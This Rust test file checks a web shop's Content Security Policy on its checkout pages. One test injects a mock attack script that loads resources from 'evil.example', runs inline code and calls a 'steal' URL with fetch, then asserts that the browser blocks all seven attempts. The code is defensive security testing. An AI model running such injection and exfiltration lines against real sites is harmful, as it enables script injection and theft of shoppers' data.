//! The pages' policies: nothing that they need is blocked, and what they do not need is.

use serde_json::{Value, json};

use crate::driver::Browser;
use crate::world::World;

/// From the cart to the thanks, with everything that any of the pages complained about.
async fn complaints_of_a_purchase(market: &str, how: &str) -> Vec<String> {
    let world = World::start();
    let browser = Browser::open().await;
    browser.tell_breaches().await;
    browser.fill_cart(&world, market, &["coffee", "book"]).await;
    browser.click(&format!(r#"[data-shop="pay-{how}"]"#)).await;
    browser.wait_for_state("ready").await;
    browser.pay().await;
    browser.find(r#"[data-shop="thanks"][data-standing="paid"]"#).await;
    world.only_order().await;
    let errors = browser.console_errors().await;
    browser.close().await;
    errors
}

#[tokio::test(flavor = "multi_thread")]
async fn a_purchase_on_the_hosted_page_breaches_nothing() {
    assert_eq!(complaints_of_a_purchase("SE", "hosted").await, [""; 0]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_purchase_on_the_shops_page_breaches_nothing() {
    assert_eq!(complaints_of_a_purchase("US", "embedded").await, [""; 0]);
}

/// What each directive blocked, after a try at everything that a foreign script would do. The
/// browser tells of its seven breaches in its own time.
async fn blocked(browser: &Browser) -> Value {
    let attack = "const done = arguments[0]; const seen = new Set(); \
        document.addEventListener('securitypolicyviolation', (breach) => \
            seen.add(breach.effectiveDirective + ' ' + breach.blockedURI.slice(0, 20))); \
        const put = (name, set) => document.body.append(Object.assign(\
            document.createElement(name), set)); \
        put('script', {src: 'https://evil.example/x.js'}); \
        put('script', {textContent: 'window.wasRun = true'}); \
        put('img', {src: 'https://evil.example/x.png'}); \
        put('iframe', {src: 'https://evil.example/x'}); \
        put('base', {href: 'https://evil.example/'}); \
        document.body.setAttribute('onclick', 'window.wasRun = true'); \
        const tell = () => done([[...seen].sort(), window.wasRun ?? false]); \
        const patience = Date.now() + 5000; \
        const look = () => seen.size < 7 && Date.now() < patience \
            ? setTimeout(look, 50) : setTimeout(tell, 200); \
        fetch('https://evil.example/steal').catch(() => 0).then(look);";
    browser.client.execute_async(attack, Vec::new()).await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_policies_bite() {
    let world = World::start();
    let browser = Browser::open().await;
    let link = world.checkout("customer@email.se").await;
    browser.open_checkout(&link).await;
    let foreign = "https://evil.example";
    let all = json!([
        [
            format!("base-uri {foreign}"),
            format!("connect-src {foreign}"),
            format!("frame-src {foreign}"),
            format!("img-src {foreign}"),
            "script-src-attr inline",
            format!("script-src-elem {foreign}"),
            "script-src-elem inline",
        ],
        false
    ]);
    assert_eq!(blocked(&browser).await, all);
    browser.fill_cart(&world, "SE", &["book"]).await;
    browser.click(r#"[data-shop="pay-embedded"]"#).await;
    browser.wait_for_state("ready").await;
    assert_eq!(blocked(&browser).await, all);
    browser.close().await;
}
